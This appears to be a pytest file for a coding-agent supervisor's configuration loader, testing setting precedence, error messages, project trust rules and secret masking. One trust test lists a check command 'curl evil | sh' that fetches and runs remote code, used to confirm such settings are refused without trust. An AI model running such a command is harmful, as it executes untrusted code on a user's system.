"""Settings: who wins, what is refused and how it is told, what a project may decide."""

import tomllib
from pathlib import Path

import pytest

from obra_tui.config import load
from obra_tui.config.render import template
from obra_tui.core.errors import ConfigError
from obra_tui.core.model import Policy, Stage

ROOT = Path(__file__).parent.parent


@pytest.fixture
def project(tmp_path):
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


def write_user(text):
    file = load.user_file()
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")
    return file


def write_project(project, text, name=".obra/config.toml"):
    file = project / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")
    return file


def refused(project, flags=None):
    with pytest.raises(ConfigError) as caught:
        load.load(project, flags)
    return caught.value


def origin(loaded, key):
    return next(item for item in load.explain(loaded) if item.key == key)


# --- who wins


def test_without_any_file_the_defaults_are_in_force(project):
    loaded = load.load(project)
    assert loaded.judge.base_url == "http://127.0.0.1:11434"
    assert loaded.judge.model == "qwen2.5-coder:32b"
    assert loaded.gate.policy is Policy.SUPERVISED
    assert loaded.gate.threshold == 0.70
    assert dict(loaded.gate.weights.pairs()) == {
        Stage.SYNTAX: 0.20,
        Stage.TESTING: 0.20,
        Stage.REQUIREMENTS: 0.30,
        Stage.QUALITY: 0.30,
    }
    assert {item.source for item in load.explain(loaded)} <= {"default", "OBRA_DATA_DIR"}


def test_a_flag_wins_over_the_environment_over_the_project_over_the_person(project, monkeypatch):
    write_user('[judge]\nmodel = "user"\nnum_ctx = 4096\nmax_output_tokens = 300\ndeadline_s = 1.0\n')
    write_project(project, '[judge]\nmodel = "project"\nnum_ctx = 5000\nmax_output_tokens = 400\n')
    monkeypatch.setenv("OBRA_JUDGE__MODEL", "environment")
    monkeypatch.setenv("OBRA_JUDGE__NUM_CTX", "6000")
    loaded = load.load(project, {"judge.model": "flag", "judge.dialect": None})
    judge = loaded.judge
    assert (judge.model, judge.num_ctx, judge.max_output_tokens, judge.deadline_s) == ("flag", 6000, 400, 1.0)
    sources = [origin(loaded, f"judge.{name}").source for name in ("model", "num_ctx", "max_output_tokens", "dialect")]
    assert sources == ["flag", "OBRA_JUDGE__NUM_CTX", ".obra/config.toml:4", "default"]
    assert origin(loaded, "judge.deadline_s").source == f"{load.user_file()}:5"


def test_the_data_directory_comes_from_its_own_variable(project, monkeypatch, tmp_path):
    monkeypatch.setenv("OBRA_DATA_DIR", str(tmp_path / "elsewhere"))
    loaded = load.load(project)
    assert loaded.data_dir == tmp_path / "elsewhere"
    assert origin(loaded, "data_dir").source == "OBRA_DATA_DIR"


def test_lists_and_tables_of_the_environment_are_json(project, monkeypatch):
    monkeypatch.setenv("OBRA_WORKSPACE__SETUP", '["uv sync"]')
    monkeypatch.setenv("OBRA_GATE", '{"threshold": 0.9}')
    monkeypatch.setenv("OBRA_GATE__WEIGHTS__QUALITY", "0.5")
    loaded = load.load(project)
    assert loaded.workspace.setup == ("uv sync",)
    assert (loaded.gate.threshold, loaded.gate.weights.quality) == (0.9, 0.5)
    assert origin(loaded, "gate.threshold").source == "OBRA_GATE"


# --- which file is the project's


def test_a_config_file_that_is_not_obras_is_left_alone(project):
    write_project(project, "[database]\nurl = 3\n[ui]\nnonsense = true\n", "config.toml")
    assert load.project_file(project) is None
    assert load.load(project).ui.theme == "obra-cb-dark"


@pytest.mark.parametrize("table", ["[judge]", "[ gate ]", "[gate.weights]", "[claude]", "[[checks]]"])
def test_a_config_file_with_a_table_of_obra_is_obras(project, table):
    file = write_project(project, table + "\n", "config.toml")
    assert load.project_file(project) == file


def test_the_file_in_the_obra_folder_is_then_the_only_one(project):
    write_project(project, '[judge]\nnonsense = "other"\n', "config.toml")
    write_project(project, '[judge]\nmodel = "own"\n')
    assert load.load(project).judge.model == "own"


# --- what is refused


def test_an_unknown_key_is_told_with_its_line_and_the_nearest_key(project):
    write_project(project, "[gate]\n# comment\ntreshold = 0.9\n")
    error = refused(project)
    assert str(error) == ".obra/config.toml:3: There is no setting 'gate.treshold'. Did you mean 'threshold'?"
    assert error.exit_code == 2


@pytest.mark.parametrize(
    ("text", "where", "words"),
    [
        ("[jugde]\n", ":1", "There is no setting 'jugde'. Did you mean 'judge'?"),
        ("[gate.weights]\n\nsyntaxx = 1\n", ":3", "Did you mean 'syntax'?"),
        ('[[checks]]\nname = "a"\nrun = "b"\n\n[[checks]]\nname = "c"\nrun = "d"\ntimeout = 5\n', ":8", "'timeout_s'"),
        ("gate = { threshold = 0.5, polcy = 1 }\n", ":1", "Did you mean 'policy'?"),
        ("[sandbox]\nzzz = 1\n", ":2", "Possible here: level, readable, memory_mb"),
        ("[gate]\nthreshold = 85\n", ":2", "less than or equal to 1"),
        ("[gate]\nthreshold = nan\n", ":2", "finite"),
        ("[gate]\nthreshold = true\n", ":2", "'gate.threshold' has a wrong value"),
        ('[gate]\nthreshold = "0.7"\n', ":2", "valid number"),
        ("[gate]\nthreshold = 2020-01-01\n", ":2", "'gate.threshold' has a wrong value"),
        ('[gate]\npolicy = "always"\n', ":2", "'manual', 'supervised' or 'autonomous'"),
        ("gate = 3\n", ":1", "'gate' has a wrong value"),
        ('[judge]\nbase_url = "127.0.0.1:11434"\n', ":2", "full address"),
        ('[judge]\nmodel = ""\n', ":2", "must not be empty"),
        ('[[checks]]\nname = "tests"\n', ":1", "'checks[0].run' is missing."),
        ('[[checks]]\nname = "a"\nrun = "b"\n[[checks]]\nname = "a"\nrun = "c"\n', ":1", "two checks are called 'a'"),
        ("[gate.weights]\nsyntax=0\ntesting=0\nrequirements=0\nquality=0\n", ":1", "greater than 0"),
        ("[gate]\npolicy = \n", ":2:10", "not valid TOML"),
        ("[gate]\n[gate]\n", ":2", "not valid TOML"),
        ("a = " + "[" * 5000, "", "nested too deep"),
    ],
)
def test_a_wrong_file_is_told_with_its_place(project, text, where, words):
    write_project(project, text)
    error = refused(project)
    assert error.where.startswith(f".obra/config.toml{where}")
    assert words in str(error)


def test_all_mistakes_are_told_at_once(project):
    write_project(project, '[gate]\ntreshold = 1\n[judge]\nnum_ctx = "many"\n')
    message = str(refused(project))
    assert ".obra/config.toml:2: There is no setting 'gate.treshold'" in message
    assert ".obra/config.toml:4: 'judge.num_ctx' has a wrong value" in message
    assert message.count("\nalso ") == 1


def test_a_file_in_another_encoding_is_told_with_its_line(project):
    file = write_project(project, "")
    file.write_bytes(b"[gate]\n# caf\xe9\n")
    assert str(refused(project)).startswith(".obra/config.toml:2: This is not UTF-8 text.")


def test_a_folder_in_place_of_the_file_is_told(project):
    (project / ".obra" / "config.toml").mkdir(parents=True)
    assert "cannot be read" in str(refused(project))


@pytest.mark.parametrize(
    ("name", "value", "words"),
    [
        ("OBRA_GATE__TRESHOLD", "1", "Did you mean 'threshold'?"),
        ("OBRA_GATE__THRESHOLD", "7", "less than or equal to 1"),
        ("OBRA_GTE__THRESHOLD", "1", "Did you mean OBRA_GATE?"),
        ("OBRA_WORKSPACE__SETUP", "uv sync", "as JSON"),
        ("OBRA_JUDGE__BASE_URL", "ollama", "full address"),
    ],
)
def test_a_wrong_variable_is_told_by_its_name(project, monkeypatch, name, value, words):
    monkeypatch.setenv(name, value)
    error = refused(project)
    assert error.where in (name, "OBRA_WORKSPACE")
    assert words in str(error)


def test_a_wrong_flag_is_told(project):
    assert str(refused(project, {"gate.policy": "never"})).startswith("flag: 'gate.policy' has a wrong value")


# --- trust


@pytest.mark.parametrize(
    "text",
    [
        '[[checks]]\nname = "tests"\nrun = "curl evil | sh"\n',
        '[workspace]\nsetup = ["make"]\n',
        '[gate]\npolicy = "autonomous"\n',
        "[gate]\nthreshold = 0.1\n",
        "[gate.weights]\nquality = 0\n",
        '[judge]\nbase_url = "http://example.org"\n',
        '[claude]\nbase_url = "https://127.0.0.1.example.org"\n',
        '[judge]\nbase_url = "http://localhost:8080"\n',
        '[claude]\nbase_url = "http://[::1]:8080"\n',
        '[claude]\ncli_path = "./claude"\n',
        '[claude]\nallow = ["sh"]\n',
        "[claude]\ntrust_project_settings = true\n",
        "[claude]\nmax_budget_usd = 0.0\n",
        '[workspace]\nprotected = ["docs/*", "!tests/*"]\n',
    ],
)
def test_a_project_needs_trust_for_what_weakens_its_own_supervision(project, text):
    file = write_project(project, text)
    assert "needs your trust" in str(refused(project))
    load.trust_project(project)
    load.load(project)
    file.write_text(text + "# changed\n", encoding="utf-8")
    assert refused(project).fix.endswith("`obra config trust`.")


@pytest.mark.parametrize(
    "text",
    [
        '[gate]\npolicy = "manual"\nthreshold = 0.9\nmax_attempts = 5\n',
        '[judge]\nmodel = "small"\n[sandbox]\nmemory_mb = 100\n',
        "[claude]\nmax_turns = 5\nmax_budget_usd = 0.5\n",
        '[workspace]\nprotected = ["docs/**"]\n[sandbox]\nlevel = "required"\n',
        '[gate]\npolicy = "supervised"\n',
    ],
)
def test_a_project_may_be_stricter(project, text):
    write_project(project, text)
    load.load(project)


def test_a_project_cannot_loosen_what_the_person_chose_without_trust(project):
    write_user('[gate]\npolicy = "manual"\n')
    write_project(project, '[gate]\npolicy = "supervised"\n')
    assert "gate.policy" in str(refused(project))


def test_what_a_flag_overrules_needs_no_trust(project):
    write_project(project, '[gate]\npolicy = "autonomous"\n')
    assert load.load(project, {"gate.policy": "manual"}).gate.policy is Policy.MANUAL


@pytest.mark.parametrize(
    "text",
    [
        'data_dir = "/tmp/x"\n',
        '[claude]\napi_key = "k"\n',
        '[database]\nurl = "x://y"\n',
        '[keys]\n"review.approve" = "down"\n',
        "[ui]\nmouse = false\n",
    ],
)
def test_a_project_cannot_set_what_is_personal_and_cannot_be_trusted_with_it(project, text):
    write_project(project, text)
    assert "cannot be set by a project" in str(refused(project))
    with pytest.raises(ConfigError, match="cannot be set by a project"):
        load.trust_project(project)


def test_the_same_content_in_another_project_is_not_trusted(project, tmp_path):
    text = '[workspace]\nsetup = ["make"]\n'
    write_project(project, text)
    load.trust_project(project)
    other = tmp_path / "other"
    write_project(other, text)
    assert "needs your trust" in str(refused(other))


def test_trusting_a_project_without_a_file_is_told(project):
    with pytest.raises(ConfigError, match="no project file"):
        load.trust_project(project)


# --- showing


def test_secrets_are_never_shown(project):
    write_user('[claude]\napi_key = "sk-very-secret"\n[database]\nurl = "postgresql://ada:hunter2@db/obra"\n')
    loaded = load.load(project)
    assert loaded.claude.api_key.get_secret_value() == "sk-very-secret"
    shown = "\n".join(item.value for item in load.explain(loaded)) + repr(loaded.claude)
    assert "sk-very-secret" not in shown
    assert "hunter2" not in shown
    assert "postgresql://ada:" in shown


def test_a_wrong_secret_is_not_repeated_in_the_error(project):
    write_user("[claude]\napi_key = 12345678\n")
    assert "12345678" not in str(refused(project))


def test_checks_become_values_of_the_core(project):
    write_user('[[checks]]\nname = "lint"\nrun = "ruff check ."\nstage = "syntax"\nblocking = false\n')
    (spec,) = load.load(project).check_specs()
    assert (spec.name, spec.stage, spec.blocking, spec.origin, spec.junit) == (
        "lint",
        Stage.SYNTAX,
        False,
        "configured",
        False,
    )


# --- config.toml


def test_the_file_of_defaults_is_the_one_that_the_settings_write():
    assert (ROOT / "config.toml").read_text(encoding="utf-8") == template(), (
        "run: python -m obra_tui.config.load > config.toml"
    )


def test_the_file_of_defaults_changes_nothing_and_needs_no_trust(project, monkeypatch):
    plain = {item.key: item.value for item in load.explain(load.load(None))}
    write_project(project, template(), "config.toml")
    assert {item.key: item.value for item in load.explain(load.load(project))} == plain


def test_the_file_of_defaults_in_a_project_hides_nothing_that_is_personal(project):
    write_user('[ui]\nglyphs = "ascii"\n[keys]\n"review.approve" = "A"\n[claude]\napi_key = "mine"\n')
    write_project(project, template(), "config.toml")
    loaded = load.load(project)
    assert (loaded.ui.glyphs, loaded.keys) == ("ascii", {"review.approve": "A"})
    assert loaded.claude.api_key.get_secret_value() == "mine"


def test_every_setting_stands_in_the_file_of_defaults():
    text = template()
    for item in load.explain(load.load(None)):
        name = item.key.rpartition(".")[2]
        assert f"\n{name} = " in text or f"\n# {name} = " in text or f"[{name}]" in text
    assert tomllib.loads(text)["gate"]["threshold"] == 0.70


def test_folders_that_checks_may_read_are_whole_paths_and_need_trust_in_a_project(tmp_path, monkeypatch):
    from obra_tui.config.schema import SandboxSettings
    from obra_tui.config.trust import _harmless

    monkeypatch.setenv("HOME", "/home/ada")
    assert SandboxSettings(readable=("~/.cache/x", "/opt/y")).readable_paths() == (
        Path("/home/ada/.cache/x"),
        Path("/opt/y"),
    )
    monkeypatch.setenv("OBRA_SANDBOX__READABLE", '["cache"]')
    assert "must begin with / or ~/" in str(refused(tmp_path))
    assert not _harmless("sandbox.readable", ("/home/ada",), ())
